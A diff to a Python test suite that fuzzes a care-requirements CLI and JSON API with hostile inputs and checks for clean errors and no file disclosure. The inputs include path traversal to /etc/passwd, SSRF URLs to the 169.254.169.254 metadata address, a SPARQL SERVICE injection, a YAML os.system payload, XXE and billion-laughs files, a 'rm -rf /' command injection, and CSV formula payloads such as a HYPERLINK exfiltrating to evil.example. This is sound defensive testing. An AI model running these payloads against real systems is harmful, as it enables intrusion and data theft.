@@ -221,24 +221,25 @@ def build(name: str, tmp: Path) -> Path:
 
 # --------------------------------------------------------------------------- the CLI table
 
-def C(args: str, names: str | None = None, codes=(2,), out: str | None = None):
+def C(args: str, names: str | None = None, codes=(2,), out: str | None = None, shown: bool = False):
     """A case: argv template ({B:name} = a built file, {D:name} = a data file, {T} = the temp folder),
     the text the first error line must hold (default: the first file named), the allowed exit codes,
     and an output path that must not exist afterwards."""
-    return {"args": args, "names": names, "codes": codes, "out": out}
+    return {"args": args, "names": names, "codes": codes, "out": out, "shown": shown}
 
 
 CASES = [
     # profiles: every command that reads one
     *[C(f"{cmd} {{B:{name}}}") for cmd in ("gap", "tiers", "validate") for name in (
         "region-superscript.yaml", "employees-superscript.yaml", "history-superscript.yaml",
-        "effort-superscript.yaml", "workplace-superscript.yaml", "huge-int.yaml", "huge-int.json", "float-inf.yaml",
+        "effort-superscript.yaml", "huge-int.yaml", "huge-int.json", "float-inf.yaml",
         "float-nan.yaml", "negative.yaml", "surrogate.json", "deep.json", "deep.yaml", "laughs.yaml",
         "python-tag.yaml", "date-bad-month.yaml", "date-compact.yaml", "date-era-bad.yaml", "date-year-0.yaml",
         "date-year-huge.yaml", "binary.yaml", "empty.yaml", "bom-only.yaml", "utf16.yaml", "path-office.yaml",
         "path-include.yaml", "list-top.yaml", "scalar-top.yaml", "turtle-met-int.ttl", "turtle-effort-nocost.ttl",
         "turtle-base-file.ttl", "turtle-huge-literal.ttl")],
     C("gap {B:sjis.yaml}", codes=(0, 2)),
+    *[C(f"{cmd} {{B:workplace-superscript.yaml}}", codes=(0, 2)) for cmd in ("gap", "validate")],  # NFKC: ² -> 2
     C("gap /nonexistent/x.yaml", names="x.yaml"),
     C("gap {T}", names=""),
     C("gap /dev/null", names="/dev/null"),
@@ -249,12 +250,14 @@ CASES = [
     C("report {B:region-superscript.yaml} -o {T}/r.html", out="r.html"),
     C("report {B:date-bad-month.yaml} -o {T}/r.html", out="r.html"),
     # options with values
-    *[C(f"gap {P} --as-of {d}", names="--as-of") for d in ("2025-13-01", "20250701", "R99.1.1", "'令和8年2月30日'",
-                                                            "0000-01-01", "9999999-01-01", "''", "'\x00'")],
-    *[C(f"gap {P} --target {t}", names="--target") for t in ("Ⅸ", "''", "'../../etc/passwd'", "'I\x00'", "ii-zz")],
+    *[C(f"gap {P} --as-of {d}", names="--as-of") for d in ("2025-13-01", "20250701", "'令和8年2月30日'",
+                                                            "0000-01-01", "9999999-01-01", "'\x00'", "R8.2.30")],
+    C(f"gap {P} --as-of ''", codes=(0, 2)),     # empty: the profile's own date
+    *[C(f"gap {P} --target {t}", names="--target") for t in ("Ⅸ", "'../../etc/passwd'", "'I\x00'", "ii-zz")],
+    C(f"gap {P} --target ''", codes=(0, 2)),
     *[C(f"explain {P} {t}", names="") for t in ("Ⅸ", "''", "'\ud800'" if False else "'\u202e'")],
     C(f"gap {P} --reading no-such-reading", names="--reading"),
-    C(f"gap {P} --reading ''", names="--reading"),
+    C(f"gap {P} --reading ''", codes=(0, 2)),
     C(f"tiers {P} --reading '../../etc/passwd'", names="--reading"),
     *[C(f"gap {PB} --rates {{D:{f}}}") for f in (
         "rates-bad-numbers.csv", "rates-negative.csv", "rates-nan.csv", "rates-inf.csv", "rates-duplicate.csv",
@@ -262,20 +265,23 @@ CASES = [
     C(f"gap {PB} --rates {{D:rates-bom.csv}}", codes=(0,)),
     C(f"gap {PB} --rates /etc/passwd", names="/etc/passwd"),
     C(f"gap {PB} --rates {{T}}", names=""),
-    *[C(f"gap {P} --rules-overlay {{D:{f}}}") for f in ("overlay-base-file.ttl", "overlay-malformed.ttl",
-                                                       "overlay-prefix-trick.ttl")],
+    C(f"gap {P} --rules-overlay {{D:overlay-malformed.ttl}}"),
+    # @base file:, owl:imports of /etc/passwd and a metadata URL, @prefix redefinitions: data, never fetched
+    *[C(f"gap {P} --rules-overlay {{D:{f}}}", codes=(0, 2)) for f in ("overlay-base-file.ttl",
+                                                                     "overlay-prefix-trick.ttl")],
     C(f"gap {P} --rules-overlay {{B:turtle-huge-literal.ttl}}", codes=(0, 2)),
     C(f"gap {P} --rules-overlay {{B:binary.yaml}}"),
     C(f"gap {P} --rules-overlay /etc/passwd", names="/etc/passwd"),
     # whatif
     *[C(f"whatif {P} --set {s}", names="--set") for s in (
         "as_of=2025-13-01", "office.region=²", "'met=[[['", "'=x'", "noequals", "'office.employees=" + "9" * 5000 + "'",
-        "'as_of=20250701'", "'office=/etc/passwd'", "'workplace=[²]'", "'effort={workplace.²: 1}'",
+        "'as_of=20250701'", "'office=/etc/passwd'", "'effort={workplace.²: 1}'",
         "'a.b.c.d.e=1'", "'office.service=../../etc'")],
     *[C(f"whatif {P} --add {a}", names="--add") for a in ("''", "workplace.²", "'workplace.99999999999999999999'",
                                                          "zzz", "'cp1.1; rm -rf /'", "'\u0000'")],
     *[C(f"whatif {P} --remove {a}", names="--remove") for a in ("zzz", "workplace.²", "''")],
-    *[C(f"whatif {P} --compare-periods {c}", names="--compare-periods") for c in ("R7,R99", "',,,'", "R7", "''",
+    C(f"whatif {P} --set 'workplace=[²]'", codes=(0, 2)),
+    *[C(f"whatif {P} --compare-periods {c}", names="--compare-periods") for c in ("R7,R99", "',,,'",
                                                                                "'../../etc/passwd'")],
     # plan
     *[C(f"plan {P} --budget {b}", names="--budget") for b in ("-1", "1e309", "nan", "abc", "9" * 5000, "²")],
@@ -283,10 +289,11 @@ CASES = [
                                                   "effort-neg.csv", "effort-binary.csv")],
     C(f"plan {P} --effort /dev/null", names="/dev/null"),
     # kb views
-    *[C(f"requirements --period {p}", names="--period") for p in ("R99", "''", "'../../etc/passwd'")],
-    *[C(f"requirements --scheme {s}", names="--scheme") for s in ("nope", "''", "'../../etc'")],
+    *[C(f"requirements --period {p}", names="--period") for p in ("R99", "'../../etc/passwd'")],
+    *[C(f"requirements --scheme {s}", names="--scheme") for s in ("nope", "'../../etc'")],
+    *[C(f"{c} ''", codes=(0, 2)) for c in ("requirements --period", "requirements --scheme", "services --period")],
     C("requirements --as-of 2025-02-30", names="--as-of"),
-    *[C(f"services --period {p}", names="--period") for p in ("R99", "''")],
+    C("services --period R99", names="--period"),
     C("services --scheme nope", names="--scheme"),
     C("staff --scheme nope", names="--scheme"),
     C("guidance -s no-such-service", names=""),
@@ -304,26 +311,28 @@ CASES = [
     C("sparql {B:query-load.rq}"),
     C("sparql {B:query-binary.rq}"),
     C("sparql {B:query-from.rq}", codes=(0, 2)),
-    C("sparql /etc/passwd", names="/etc/passwd"),
+    C("sparql /etc/passwd", names="/etc/passwd", shown=True),   # the user's own query file: may be quoted
     C("sparql -n no-such-query", names=""),
     C("sparql -n ../../etc/passwd", names=""),
-    C("sparql -n tiers -p 'x'", names="-p"),
-    C("sparql -n tiers -p '=1'", names=""),
-    C("sparql -n tiers -p 'period=\"> } SERVICE <http://169.254.169.254/> { ?s ?p ?o } #'", codes=(0, 2), names=""),
+    C("sparql -n tier-requirements -p 'x'", names="-p"),
+    C("sparql -n tier-requirements -p '=1'", names=""),
+    C("sparql -n tier-requirements -p 'period=\"> } SERVICE <http://169.254.169.254/> { ?s ?p ?o } #'", codes=(0, 2), names=""),
     C("sparql {B:query-bad.rq} --with {B:region-superscript.yaml}", names=""),
-    C("sparql -n tiers --with /etc/passwd", names="/etc/passwd"),
-    *[C(f"sparql -n tiers --endpoint {u}", names="--endpoint") for u in (
+    C("sparql -n tier-requirements --with /etc/passwd", names="/etc/passwd"),
+    *[C(f"sparql -n tier-requirements --endpoint {u}", names="--endpoint") for u in (
         "file:///etc/passwd", "http://169.254.169.254/", "gopher://127.0.0.1:25/", "http://localhost:99999999/",
-        "'http://[::1'", "ftp://x/", "''", "'http://user:pass@169.254.169.254/'")],
+        "'http://[::1'", "ftp://x/", "'http://user:pass@169.254.169.254/'", "http://2852039166/",
+        "http://0xa9.0xfe.0xa9.0xfe/", "'http://[fe80::1]/'", "http://0.0.0.0:80/")],
+    C("sparql -n tier-requirements --endpoint ''", codes=(0, 2)),
     *[C(f"gap {P} --endpoint {u}", names="--endpoint") for u in ("file:///etc/passwd", "gopher://127.0.0.1:25/")],
     *[C(f"requirements --endpoint {u}", names="--endpoint") for u in ("file:///etc/passwd", "http://localhost:0/")],
     # outputs
     C("export -o {T}", names=""),
-    C("export -o /dev/full", names=""),
+    C("export -o {F:full.ttl}", names="full.ttl"),
     C("export -o /nonexistent/dir/x.ttl", names="x.ttl"),
     C(f"report {P} -o {{T}}", names=""),
     C(f"report {P} -o /nonexistent/dir/r.html", names="r.html"),
-    C(f"report {P} -o /dev/full", names=""),
+    C(f"report {P} -o {{F:full.html}}", names="full.html"),
     # batch
     *[C(f"batch {{B:{f}}} --out {{T}}/o.csv -q", out="o.csv") for f in (
         "offices-binary.csv", "offices-empty.csv", "offices-wide.csv", "offices-nul.csv",
@@ -331,9 +340,10 @@ CASES = [
         "offices-laughs.xlsx", "offices-xxe.xlsx", "offices-bad-xml.xlsx", "offices-bad-ref.xlsx",
         "offices-far-cell.xlsx", "offices-bomb.xlsx")],
     *[C(f"batch {{B:{f}}} --out {{T}}/o.csv -q", codes=(1, 2)) for f in (
-        "offices-header-only.csv", "offices-all-bad.csv", "offices-huge-cell.csv", "offices-quote.csv",
+        "offices-all-bad.csv", "offices-huge-cell.csv", "offices-quote.csv",
         "offices-dimension.xlsx")],
-    C("batch {B:offices-all-bad.csv} --out /dev/full -q", names="", codes=(1, 2)),
+    C("batch {B:offices-header-only.csv} --out {T}/o.csv -q", codes=(0, 1, 2)),
+    C("batch {B:offices-all-bad.csv} --out {F:full.csv} -q", names="full.csv"),
     C(f"batch {EX / 'batch/offices.csv'} --out {{T}} -q", names=""),
     C(f"batch {EX / 'batch/offices.csv'} --out {{T}}/o.exe -q", names=""),
     C(f"batch {EX / 'batch/offices.csv'} --out {{T}}/o.csv --staff {{B:binary.yaml}} -q", names="", out="o.csv"),
@@ -349,12 +359,16 @@ def _argv(case: dict, tmp: Path) -> tuple[list[str], Path | None]:
     first = None
     out = []
     for a in shlex.split(case["args"]):
-        for tag in ("{B:", "{D:"):
+        for tag in ("{B:", "{D:", "{F:"):
             while tag in a:
                 i = a.index(tag)
                 j = a.index("}", i)
                 name = a[i + 3:j]
-                path = build(name, tmp) if tag == "{B:" else DATA / name
+                if tag == "{F:":      # a link to /dev/full: an output there must fail, never replace the link
+                    path = tmp / name
+                    path.symlink_to("/dev/full")
+                else:
+                    path = build(name, tmp) if tag == "{B:" else DATA / name
                 first = first or path
                 a = a[:i] + str(path) + a[j + 1:]
         out.append(a.replace("{T}", str(tmp)))
@@ -365,13 +379,13 @@ def _case_id(case):
     return case["args"].replace(str(EX) + "/", "").replace(str(ROOT) + "/", "")[:90]
 
 
-def check_clean(result, codes, names, text_out: str = "") -> None:
+def check_clean(result, codes, names, shown: bool = False) -> None:
     err = result.stderr
     everything = result.output + err
     assert "Traceback" not in everything, everything[-3000:]
     assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
     assert result.exit_code in codes, (result.exit_code, everything[-2000:])
-    assert SECRET not in everything, "local file disclosed"
+    assert shown or SECRET not in everything, "local file disclosed"
     if result.exit_code == 2:
         lines = [ln for ln in err.splitlines() if ln.strip()]
         assert 1 <= len(lines) <= 21, err[-2000:]
@@ -385,6 +399,171 @@ def test_cli_attack(case, tmp_path):
     argv, first = _argv(case, tmp_path)
     names = case["names"] if case["names"] is not None else (first.name if first else "")
     result = CliRunner().invoke(main, argv, catch_exceptions=True)
-    check_clean(result, case["codes"], names)
+    check_clean(result, case["codes"], names, case["shown"])
     if case["out"] and result.exit_code == 2:
         assert not (tmp_path / case["out"]).exists(), "partial output left behind"
+    for link in tmp_path.iterdir():
+        if link.name.startswith("full."):
+            assert link.is_symlink(), "the device link was replaced by a file"
+    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")], "temporary files left behind"
+
+
+def test_csv_outputs_neutralise_formulas_and_xlsx_keeps_text(tmp_path):
+    """Office names and ids that Excel would run as formulas come back as text: CSV cells get a leading
+    apostrophe, XLSX cells are strings (no <f> element); no row is lost."""
+    import csv as csvmod
+    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|x",
+            "@SUM(1+1)*cmd|x", "-2+3", "＝1+1"]
+    rows = list(csvmod.reader((EX / "batch/offices.csv").open(encoding="utf-8")))
+    for i, name in enumerate(evil, 1):
+        rows[i][1] = name
+    rows[len(evil) + 1][0] = "=1+1"
+    src = tmp_path / "in.csv"
+    with src.open("w", encoding="utf-8", newline="") as f:
+        csvmod.writer(f).writerows(rows)
+    for suffix in (".csv", ".xlsx"):
+        out = tmp_path / f"out{suffix}"
+        r = CliRunner().invoke(main, ["batch", str(src), "--out", str(out), "-q"])
+        check_clean(r, (0,), "")
+        if suffix == ".csv":
+            got = list(csvmod.reader(out.open(encoding="utf-8-sig")))
+            names = [g[2] for g in got[1:]]
+            assert len(got) - 1 == len(rows) - 1, "row lost"
+            assert names[:len(evil)] == ["'" + e for e in evil]
+            assert got[len(evil) + 1][1] == "'=1+1"
+            assert all(not c.startswith(("=", "+", "@")) for g in got for c in g)
+            actions = (tmp_path / "out-actions.csv").read_text(encoding="utf-8-sig")
+            assert "\n2," in actions and ",=" not in actions and ',"=' not in actions
+        else:
+            with zipfile.ZipFile(out) as z:
+                for n in z.namelist():
+                    assert b"<f>" not in z.read(n) and b"<f " not in z.read(n), n
+
+
+# --------------------------------------------------------------------------- the JSON API (in process)
+
+@pytest.fixture(scope="module")
+def api_client():
+    from starlette.testclient import TestClient
+
+    from carekb.graph.kbload import load_kb
+    from carekb.web.app import Settings, create_app
+    app = create_app(None, load_kb(), 0, Settings(max_body=1_000_000, max_upload=2_000_000))
+    with TestClient(app, raise_server_exceptions=False, base_url="http://127.0.0.1") as client:
+        yield client
+
+
+GOOD = {"office": {"service": "home-care", "employees": 5}, "as_of": "2025-07-01"}
+OVERLAY_TRICKS = [(DATA / f).read_text(encoding="utf-8") for f in ("overlay-base-file.ttl", "overlay-prefix-trick.ttl")]
+
+
+def J(call, body, codes=(400, 422)):
+    return {"call": call, "body": body, "codes": codes}
+
+
+API_CASES = [
+    J("gap", b"{not json"), J("gap", b""), J("gap", b"[]"), J("gap", b"null"), J("gap", b'"x"'),
+    J("gap", {"profile": 123}), J("gap", {"profile": None}), J("gap", {"profile": []}), J("gap", {}),
+    J("gap", ('{"profile": {"office": {"service": "home-care", "employees": ' + "9" * 5000 + "}}}").encode()),
+    J("gap", b'{"profile": {"office": {"service": "home-care", "employees": 1e309}}}'),
+    J("gap", b'{"profile": {"office": {"service": "home-care", "employees": NaN}}}'),
+    J("gap", b'{"profile": {"office": {"service": "home-care", "name": "\\ud800"}}}'),
+    J("gap", b'{"profile": "office: {service: home-care, name: \\"\\ud800\\"}"}'),
+    J("gap", ('{"profile": ' + "[" * 50_000 + "]" * 50_000 + "}").encode()),
+    J("gap", {"profile": {"office": {"service": "home-care"}, "x": [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]}}),
+    J("gap", {"profile": "/etc/passwd"}), J("gap", {"profile": "../../etc/passwd"}),
+    J("gap", {"profile": "file:///etc/passwd"}), J("gap", {"profile": "examples/r7-after-school-day.yaml"}),
+    J("gap", {"profile": {"office": "/etc/passwd"}}),
+    J("gap", {"profile": {"office": {"service": "/etc/passwd", "region": "²"}}}),
+    J("gap", {"profile": "office: {service: home-care, employees: " + "9" * 5000 + "}\n"}),
+    J("gap", {"profile": "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
+                         "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"}),
+    J("gap", {"profile": "office: !!python/object/apply:os.system ['id']\n"}),
+    J("gap", {"profile": GOOD, "options": {"as_of": "2025-13-01"}}),
+    J("gap", {"profile": GOOD, "options": {"as_of": 20250701}}),
+    J("gap", {"profile": GOOD, "options": {"target": "Ⅸ"}}),
+    J("gap", {"profile": GOOD, "options": {"engine": "shell"}}),
+    J("gap", {"profile": GOOD, "options": {"rates": "/etc/passwd"}}),
+    J("gap", {"profile": GOOD, "options": {"lang": "../../etc"}}),
+    J("gap", {"profile": GOOD, "options": {"reading": ["no-such"]}}),
+    J("gap", {"profile": GOOD, "options": {"reading": [1, None]}}),
+    J("gap", {"profile": GOOD, "options": {"no_pledge": "yes"}}),
+    J("gap", {"profile": GOOD, "options": []}),
+    J("explain", {"profile": GOOD, "options": {"tier": 2}}),
+    J("explain", {"profile": GOOD}),
+    J("whatif", {"profile": GOOD, "options": {"set": {"as_of": "2025-13-01"}}}),
+    J("whatif", {"profile": GOOD, "options": {"set": ["noequals"]}}),
+    J("whatif", {"profile": GOOD, "options": {"set": {"office.region": "²"}}}),
+    J("whatif", {"profile": GOOD, "options": {"set": {"a.b.c.d.e.f": 1}}}),
+    J("whatif", {"profile": GOOD, "options": {"add": [1, None, {}]}}),
+    J("whatif", {"profile": GOOD, "options": {"add": ["workplace.²"]}}),
+    J("whatif", {"profile": GOOD, "options": {"remove": ["zzz"]}}),
+    J("whatif", {"profile": GOOD, "options": {"compare_periods": "R7,R99"}}),
+    J("whatif", {"profile": GOOD, "options": {"compare_periods": [1, 2]}}),
+    J("plan", {"profile": GOOD, "options": {"budget": -1}}),
+    J("plan", {"profile": GOOD, "options": {"budget": 1.5}}),
+    J("plan", b'{"profile": {"office": {"service": "home-care"}}, "options": {"budget": 1e309}}'),
+    J("plan", ('{"profile": {"office": {"service": "home-care"}}, "options": {"budget": ' + "9" * 5000 + "}}").encode()),
+    J("plan", {"profile": GOOD, "options": {"effort": {"cp1.1": "abc"}}}),
+    J("plan", {"profile": GOOD, "options": {"effort": {"cp1.1": -1}}}),
+    J("plan", {"profile": GOOD, "options": {"effort": {"workplace.²": 1}}}),
+    J("plan", {"profile": GOOD, "options": {"effort": {"cp1.1": None}}}),
+    J("gap", {"profile": GOOD, "overlays": [{"name": "x", "turtle": "@prefix : <x> . :a :b "}]}),
+    J("gap", {"profile": GOOD, "overlays": [{"name": "", "turtle": ""}]}),
+    J("gap", {"profile": GOOD, "overlays": [{"name": "x"}]}),
+    J("gap", {"profile": GOOD, "overlays": "/etc/passwd"}),
+    J("gap", {"profile": GOOD, "overlays": [{"name": "../../etc/passwd", "turtle": "/etc/passwd"}]}),
+    *[J("gap", {"profile": GOOD, "overlays": [{"name": "t", "turtle": t}]}, codes=(200, 400)) for t in OVERLAY_TRICKS],
+    J("gap", {"profile": GOOD, "overlays": [{"name": "t", "turtle": "@prefix ck: <https://w3id.org/carekb/vocab#> .\n"
+                                                                     '<file:///etc/passwd> ck:x "' + "y" * 1_500_000 + '" .'}]},
+      codes=(200, 400, 413)),
+]
+
+
+def _post(client, call, body):
+    if isinstance(body, bytes):
+        return client.post(f"/api/v1/{call}", content=body, headers={"content-type": "application/json"})
+    return client.post(f"/api/v1/{call}", json=body)
+
+
+def _api_clean(r, codes):
+    assert r.status_code != 500 and r.status_code in codes, (r.status_code, r.text[:500])
+    if r.status_code >= 400:
+        body = r.json()
+        assert isinstance(body.get("error"), str) and "\n" not in body["error"] and "Traceback" not in r.text
+    assert SECRET not in r.text, "local file disclosed"
+
+
+@pytest.mark.parametrize("case", API_CASES, ids=lambda c: f"{c['call']}:{str(c['body'])[:60]}")
+def test_api_attack(api_client, case):
+    _api_clean(_post(api_client, case["call"], case["body"]), case["codes"])
+
+
+@pytest.mark.parametrize("path", [
+    "/api/v1/services?period=R99", "/api/v1/services?scheme=../../etc", "/api/v1/services?period=%00",
+    "/api/v1/requirements?as_of=2025-13-01", "/api/v1/requirements?scheme=nope", "/api/v1/requirements?lang=xx",
+    "/api/v1/requirements?period=" + "R" * 10_000, "/api/v1/requirements?as_of=%ED%A0%80",
+])
+def test_api_get_attack(api_client, path):
+    _api_clean(api_client.get(path), (400, 404, 422))
+
+
+@pytest.mark.parametrize("name,builder,codes", [
+    ("o.csv", lambda: bytes(range(256)) * 8, (400,)),
+    ("o.csv", lambda: b"", (400,)),
+    ("../../etc/passwd.csv", lambda: "事業所番号,サービス\n1,no-such\n".encode(), (200, 400)),
+    ("o.xlsx", lambda: _xlsx(shared=LAUGHS), (400,)),
+    ("o.xlsx", lambda: _xlsx(shared=XXE), (400,)),
+    ("o.xlsx", lambda: b"PK\x03\x04junk", (400,)),
+    ("o.xlsx", lambda: _xlsx(sheet_xml=b"<worksheet><sheetData><row><c r='A1'"), (400,)),
+    ("o.xlsx", lambda: _xlsx(drop=("xl/workbook.xml",)), (400,)),
+    ("o.exe", lambda: b"MZ", (400,)),
+    ("o.csv", lambda: b"x" * 2_500_000, (413,)),
+])
+def test_api_batch_attack(api_client, name, builder, codes):
+    r = api_client.post("/api/v1/batch", files={"file": (name, builder(), "application/octet-stream")})
+    _api_clean(r, codes)
+
+
+def test_api_batch_without_file_is_422(api_client):
+    _api_clean(api_client.post("/api/v1/batch", data={"as_of": "2025-13-01"}), (422,))
